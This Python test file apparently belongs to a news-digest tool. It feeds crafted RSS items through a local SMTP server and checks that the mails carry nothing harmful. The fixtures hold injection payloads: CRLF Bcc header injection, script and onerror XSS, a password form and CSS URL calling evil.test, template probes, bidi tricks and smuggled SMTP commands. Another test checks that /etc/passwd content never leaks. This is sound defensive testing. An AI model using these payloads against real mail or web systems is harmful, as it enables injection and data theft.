"""A whole run over hostile outlets, into mails that a real SMTP server takes: nothing in one that ought not to be."""

import gzip
import os
import socket
from collections.abc import Iterator, Sequence
from datetime import timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from html import unescape
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller

from tests.hostile_news import NOW, USUAL, HostileNews, parsed
from tests.newswatch.conftest import Newsroom

DATA = Path(os.environ.get("NEWSWATCH_DATA") or Path(__file__).parents[3] / "shared" / "data") / "adversarial" / "feeds"
EVERIES = ("immediately", "hourly", "daily")


class Sink:
    """Takes every mail, and keeps its envelope."""

    def __init__(self) -> None:
        self.taken: list[tuple[str, list[str], bytes]] = []

    async def handle_DATA(self, _server, _session, envelope) -> str:  # noqa: N802 - aiosmtpd's name
        self.taken.append((envelope.mail_from, envelope.rcpt_tos, envelope.original_content))
        return "250 taken"


@pytest.fixture
def sink() -> Iterator[tuple[Sink, int]]:
    """An SMTP server on a free port."""
    sink = Sink()
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    controller = Controller(sink, hostname="127.0.0.1", port=port)
    controller.start()
    yield sink, port
    controller.stop()


def run(
    feeds: dict[str, bytes], folder: Path, sink: tuple[Sink, int], titles: Sequence[str] = ()
) -> list[EmailMessage]:
    """Watch the feeds once and an hour later; the mails that arrived. The n-th page of own.xml has the n-th title."""
    taken, port = sink
    pages = {f"/own.xml/{n}": (title, unescape(SUMMARY), USUAL) for n, title in enumerate(titles)}
    with HostileNews(feeds=feeds, pages=pages).served() as news:
        news.configure(folder, f"smtp://127.0.0.1:{port}", *EVERIES)
        room = Newsroom(folder)
        first = room.report("run", at=NOW)
        second = room.report("run", "--all", at=NOW + timedelta(hours=1))
    assert first["matches"] > 0
    assert second["digests"]["sent"] > 0
    assert first["digests"]["failed"] == second["digests"]["failed"] == 0
    assert all(len(to) == 1 and to[0].partition("@")[0] in EVERIES for _, to, _ in taken.taken)
    assert len(taken.taken) == first["digests"]["sent"] + second["digests"]["sent"]
    return [parsed(raw) for _, _, raw in taken.taken]


HOSTILE_FEED = """<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>N</title><link>http://news.test/</link>
{items}</channel></rss>"""
TITLES = [
    "One&#13;&#10;Bcc: victim@evil.test&#13;&#10;X-Evil: 1",
    "=?utf-8?q?x=0D=0ABcc:_victim@evil.test?=",
    "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=http://evil.test/p onerror=alert(1)&gt;",
    "&lt;form action=http://evil.test&gt;&lt;input name=password&gt;",
    "&lt;/title&gt;&lt;/style&gt;&lt;style&gt;*{background:url(http://evil.test/a)}&lt;/style&gt;",
    "{{ 7 * 7 }} {% raw %} ${x} <![CDATA[<b onclick=x>]]>",
    "\u202egnp.txt\u2066 \u200eabc \u061c",
    "-- ",
    "From Baltimore",
    ".",
    "العاصمة بالتيمور تصوّت على الميزانية",
    "巴尔的摩市议会投票通过新的预算案" * 6,
    "Taumatawhakatangihangakoauauotamatea" * 20,
    "👩‍👩‍👧‍👦🏳️‍🌈 " * 40,
    "z̷̧̨̛͉̙͚̺" * 60,
]
SUMMARY = "&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt; http://evil.test/&quot;onmouseover=&quot;alert(1)\n.\nRCPT TO:&lt;v@evil.test&gt;\n.\n"


@pytest.mark.slow
def test_hostile_headlines_stay_words_from_feed_to_mailbox(tmp_path: Path, sink: tuple[Sink, int]) -> None:
    items = "".join(
        f"<item><title>{title}</title><link>http://news.test/{n}</link><guid>{n}</guid>"
        f"<pubDate>Tue, 24 Nov 2026 01:00:00 +0000</pubDate><description>{SUMMARY}</description></item>"
        for n, title in enumerate(TITLES)
    )
    mails = run({"own.xml": HOSTILE_FEED.format(items=items).encode()}, tmp_path, sink, [unescape(t) for t in TITLES])
    assert {mail["To"] for mail in mails} == {f"{every}@example.org" for every in EVERIES}
    at_once = [mail for mail in mails if mail["To"].startswith("immediately")]
    assert len(at_once) == len(TITLES) + 1  # and, at 22:30, the note of an empty digest
    assert sum("<script>" in str(mail["Subject"]) for mail in at_once) == 1


@pytest.mark.slow
def test_four_hundred_stories_are_one_mail_of_ninety_kilobytes(tmp_path: Path, sink: tuple[Sink, int]) -> None:
    items = "".join(
        f"<item><title>Baltimore council, motion {n}: {'a long headline ' * 6}</title><link>http://news.test/{n}</link>"
        f"<guid>{n}</guid><pubDate>{format_datetime(NOW - timedelta(minutes=n))}</pubDate></item>"
        for n in range(400)
    )
    mails = run({"own.xml": HOSTILE_FEED.format(items=items).encode()}, tmp_path, sink)
    (hourly,) = (mail for mail in mails if mail["To"].startswith("hourly"))
    assert "more stories wait for the next digest" in hourly.get_body(("plain",)).get_content()  # type: ignore[union-attr]


@pytest.mark.slow
@pytest.mark.skipif(not DATA.is_dir(), reason="the adversarial data is not here")
def test_hostile_feeds_become_mails_with_nothing_in_them_that_ought_not_to_be(
    tmp_path: Path, sink: tuple[Sink, int]
) -> None:
    feeds = {
        path.name.removesuffix(".gz"): gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        for path in sorted(DATA.iterdir())
    }
    mails = run(feeds, tmp_path, sink)
    everything = "\n".join(str(mail.get_body(("plain",)).get_content()) for mail in mails)  # type: ignore[union-attr]
    assert "root:x:0:0" not in everything
    assert "INTERNALCANARY" not in everything
